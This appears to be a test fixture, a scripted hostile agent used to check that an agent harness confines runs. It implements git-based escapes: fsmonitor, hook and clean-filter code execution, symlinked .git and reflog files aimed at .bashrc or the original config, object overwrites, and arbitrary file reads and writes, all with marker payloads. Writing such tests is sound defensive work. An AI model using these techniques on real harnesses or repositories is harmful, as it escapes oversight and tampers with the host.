"""A hostile agent that attacks the harness through git (issue 36, attacks 1, 2, 4, 5).

The run's text holds one line ``DO: <attack> <arg>...``; the agent works in its
first private checkout (its cwd) and replies with one line saying what it did or
read. Tests judge by what happened outside the run, never by this reply alone.

Attacks:

- ``fsmonitor MARKER``: the checkout's ``.git`` becomes ``gitdir: <a git dir of
  its own>`` whose config sets ``core.fsmonitor`` to a script appending to MARKER;
- ``link-git ORIGINAL``: ``.git`` becomes a symlink to ``ORIGINAL/.git``;
- ``plant-hook ORIGINAL MARKER``: writes a post-checkout hook into ``ORIGINAL``
  and appends to its config; says ``planted`` or the errno;
- ``space-git LINK_TARGET``: ``.git`` becomes ``gitdir: <wt>/.g `` (a trailing
  space; a link to the real git dir) beside ``.g``, a link to ``LINK_TARGET``;
- ``read FILE``: replies with the file's content, or the errno;
- ``write FILE``: appends a line, replies ``written`` or the errno;
- ``reflog ORIGINAL BASHRC``: detaches, deletes its branch, and leaves the
  branch's reflog a link to ``ORIGINAL/.git/config`` and the HEAD log a link to
  ``BASHRC``;
- ``stage SECRET``: stages a file holding SECRET, commits nothing;
- ``object``: overwrites the loose object of ``main:Makefile``;
- ``commit TEXT``: commits a file holding TEXT and adds a line to its
  repository's alternates; replies with the commit;
- ``hunt SECRET``: looks through every object it can reach for SECRET;
- ``move BRANCH``: moves the branch BRANCH to its own HEAD;
- ``submodule MARKER``: stages ``sub``, a repository of its own whose config sets
  a clean filter (a script appending to MARKER) for a file whose times changed,
  so that a ``git status`` reading the submodule runs it;
- ``submodule-connect SOCKET``: the same with a filter that connects to the Unix
  socket SOCKET;
- ``worktree-config MARKER``: writes its git dir's ``config.worktree`` (read when
  the repository enables ``extensions.worktreeConfig``) naming a clean filter (a
  script appending to MARKER) and an attributes file applying it to every file,
  and changes a tracked file's times, so that a ``git status`` runs it;
- ``untracked FOLDER NAME...``: writes ``FOLDER/NAME`` (one line) for each NAME,
  left untracked;
- ``link-folder FOLDER TARGET``: removes ``FOLDER`` and leaves in its place a link
  to ``TARGET``, so that a path read as ``FOLDER/NAME`` goes there;
- ``fifo PATH``: replaces the file ``PATH`` with a FIFO (that no one writes);
- ``nothing``.
"""

import errno
import os
import re
import shutil
import subprocess
import sys
import zlib

prompt = sys.stdin.read()
found = re.search(r"DO: ([^\n]*)", prompt)
words = found.group(1).split() if found else ["nothing"]
attack, args = words[0], words[1:]
here = os.getcwd()


def git(*argv: str, check: bool = True) -> str:
    done = subprocess.run(["git", *argv], capture_output=True, text=True, check=False)
    if check and done.returncode != 0:
        raise SystemExit(f"git {argv[0]} failed: {done.stderr.strip()}")
    return done.stdout.strip()


def errname(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, str(exc))


def replace_dot_git(text: str) -> None:
    os.remove(os.path.join(here, ".git"))
    with open(os.path.join(here, ".git"), "w", encoding="utf-8") as handle:
        handle.write(text)


def main() -> str:
    if attack == "fsmonitor":
        (marker,) = args
        own = os.path.join(here, ".mine")
        git("init", "--quiet", "--bare", own)
        script = os.path.join(here, ".monitor")
        with open(script, "w", encoding="utf-8") as handle:
            handle.write(f"#!/bin/sh\necho ran >> '{marker}'\n")
        os.chmod(script, 0o755)
        git("--git-dir", own, "config", "core.bare", "false")
        git("--git-dir", own, "config", "core.fsmonitor", script)
        replace_dot_git(f"gitdir: {own}\n")
        return "planted"
    if attack == "link-git":
        (original,) = args
        os.remove(os.path.join(here, ".git"))
        os.symlink(os.path.join(original, ".git"), os.path.join(here, ".git"))
        return "linked"
    if attack == "plant-hook":
        original, marker = args
        hook = os.path.join(original, ".git", "hooks", "post-checkout")
        try:
            with open(hook, "w", encoding="utf-8") as handle:
                handle.write(f"#!/bin/sh\necho ran >> '{marker}'\n")
            os.chmod(hook, 0o755)
            with open(os.path.join(original, ".git", "config"), "a", encoding="utf-8") as h:
                h.write("[core]\n\tfsmonitor = /bin/false\n")
        except OSError as exc:
            return errname(exc)
        return "planted"
    if attack == "space-git":
        (target,) = args
        # git keeps the space: ".g " is the real git dir, and git goes on working.
        os.symlink(os.path.abspath(git("rev-parse", "--git-dir")), os.path.join(here, ".g "))
        os.symlink(target, os.path.join(here, ".g"))
        replace_dot_git(f"gitdir: {os.path.join(here, '.g')} \n")
        return "spaced"
    if attack == "read":
        try:
            with open(args[0], encoding="utf-8") as handle:
                return "content: " + handle.read().strip()
        except OSError as exc:
            return errname(exc)
    if attack == "write":
        try:
            with open(args[0], "a", encoding="utf-8") as handle:
                handle.write("written by a hostile run\n")
        except OSError as exc:
            return errname(exc)
        return "written"
    if attack == "reflog":
        original, bashrc = args
        branch = git("symbolic-ref", "--short", "HEAD")
        git("checkout", "--quiet", "--detach")
        common = os.path.abspath(git("rev-parse", "--git-common-dir"))
        git_dir = os.path.abspath(git("rev-parse", "--git-dir"))
        # The branch deleted by hand: `git branch -D` would rewrite packed-refs.
        os.remove(os.path.join(common, "refs", "heads", branch))
        log = os.path.join(common, "logs", "refs", "heads", branch)
        if os.path.lexists(log):
            os.remove(log)
        os.symlink(os.path.join(original, ".git", "config"), log)
        head_log = os.path.join(git_dir, "logs", "HEAD")
        os.remove(head_log)
        os.symlink(bashrc, head_log)
        return "linked"
    if attack == "stage":
        (secret,) = args
        with open(os.path.join(here, "staged.txt"), "w", encoding="utf-8") as handle:
            handle.write(secret + "\n")
        git("add", "staged.txt")
        os.remove(os.path.join(here, "staged.txt"))
        return "staged"
    if attack == "object":
        blob = git("rev-parse", "main:Makefile")
        common = os.path.abspath(git("rev-parse", "--git-common-dir"))
        stores = [os.path.join(common, "objects")]
        alternates = os.path.join(common, "objects", "info", "alternates")
        if os.path.exists(alternates):
            with open(alternates, encoding="utf-8") as handle:
                stores += [line.strip() for line in handle if line.strip()]
        # Wherever git keeps it: its own store or one it borrows from.
        path = next((os.path.join(store, blob[:2], blob[2:]) for store in stores
                     if os.path.exists(os.path.join(store, blob[:2], blob[2:]))), "")
        if not path:
            return "not found"
        body = b"all:\n\techo overwritten\n"
        try:
            os.remove(path)
            with open(path, "wb") as handle:
                handle.write(zlib.compress(b"blob %d\0" % len(body) + body))
        except OSError as exc:
            return errname(exc)
        return "overwritten"
    if attack == "commit":
        (text,) = args
        with open(os.path.join(here, "work.txt"), "w", encoding="utf-8") as handle:
            handle.write(text + "\n")
        git("add", "work.txt")
        git("commit", "--quiet", "-m", "the run's work")
        # And an alternates naming a store of the run's choosing: the harness's
        # git that brings the branch back never reads it unconfined.
        common = os.path.abspath(git("rev-parse", "--git-common-dir"))
        with open(os.path.join(common, "objects", "info", "alternates"), "a",
                  encoding="utf-8") as handle:
            handle.write("/nonexistent/objects\n")
        return git("rev-parse", "HEAD")
    if attack == "hunt":
        (secret,) = args
        every = subprocess.run(["git", "cat-file", "--batch-all-objects", "--batch"],
                               capture_output=True, check=False).stdout
        return "found" if secret.encode() in every else "not found"
    if attack == "move":
        (branch,) = args
        done = subprocess.run(["git", "update-ref", f"refs/heads/{branch}", "HEAD"],
                              capture_output=True, text=True, check=False)
        return "moved" if done.returncode == 0 else "refused"
    if attack in ("submodule", "submodule-connect"):
        (target,) = args
        planted = (clean_filter(target) if attack == "submodule"
                   else connecting_filter(target))
        sub = os.path.join(here, "sub")
        os.mkdir(sub)
        git("-C", sub, "init", "--quiet")
        with open(os.path.join(sub, "f"), "w", encoding="utf-8") as handle:
            handle.write("hi\n")
        git("-C", sub, "add", "f")
        git("-C", sub, "commit", "--quiet", "-m", "s")
        git("-C", sub, "config", "filter.x.clean", planted)
        os.makedirs(os.path.join(sub, ".git", "info"), exist_ok=True)
        with open(os.path.join(sub, ".git", "info", "attributes"), "w",
                  encoding="utf-8") as handle:
            handle.write("* filter=x\n")
        os.utime(os.path.join(sub, "f"), (978307200, 978307200))
        git("add", "sub")
        return "planted"
    if attack == "worktree-config":
        (marker,) = args
        attributes = os.path.join(here, ".attributes")
        with open(attributes, "w", encoding="utf-8") as handle:
            handle.write("* filter=x\n")
        own = git("rev-parse", "--absolute-git-dir")
        with open(os.path.join(own, "config.worktree"), "w", encoding="utf-8") as handle:
            handle.write(f"[filter \"x\"]\n\tclean = {clean_filter(marker)}\n"
                         f"[core]\n\tattributesFile = {attributes}\n")
        for name in git("ls-files").splitlines():
            os.utime(os.path.join(here, name), (978307200, 978307200))
        return "planted"
    if attack == "untracked":
        folder, *names = args
        os.makedirs(os.path.join(here, folder), exist_ok=True)
        for name in names:
            with open(os.path.join(here, folder, name), "w", encoding="utf-8") as handle:
                handle.write("the run's own line\n")
        return "written"
    if attack == "link-folder":
        folder, target = args
        shutil.rmtree(os.path.join(here, folder))
        os.symlink(target, os.path.join(here, folder))
        return "linked"
    if attack == "fifo":
        (path,) = args
        os.remove(os.path.join(here, path))
        os.mkfifo(os.path.join(here, path))
        return "made"
    return "nothing"


def connecting_filter(address: str) -> str:
    """A clean filter (a script in the checkout) that connects to the Unix socket
    ``address`` and says so there."""
    script = os.path.join(here, ".clean")
    with open(script, "w", encoding="utf-8") as handle:
        handle.write(f"#!{sys.executable}\nimport socket, sys\n"
                     "try:\n"
                     "    conn = socket.socket(socket.AF_UNIX)\n"
                     f"    conn.connect({address!r})\n"
                     "    conn.sendall(b'owned by a filter\\n')\n"
                     "except OSError:\n"
                     "    pass\n"
                     "sys.stdout.buffer.write(sys.stdin.buffer.read())\n")
    os.chmod(script, 0o755)
    return script


def clean_filter(marker: str) -> str:
    """A clean filter (a script in the checkout) that appends to ``marker``."""
    script = os.path.join(here, ".clean")
    with open(script, "w", encoding="utf-8") as handle:
        handle.write(f"#!/bin/sh\necho ran >> '{marker}'\ncat\n")
    os.chmod(script, 0o755)
    return script


print(main())
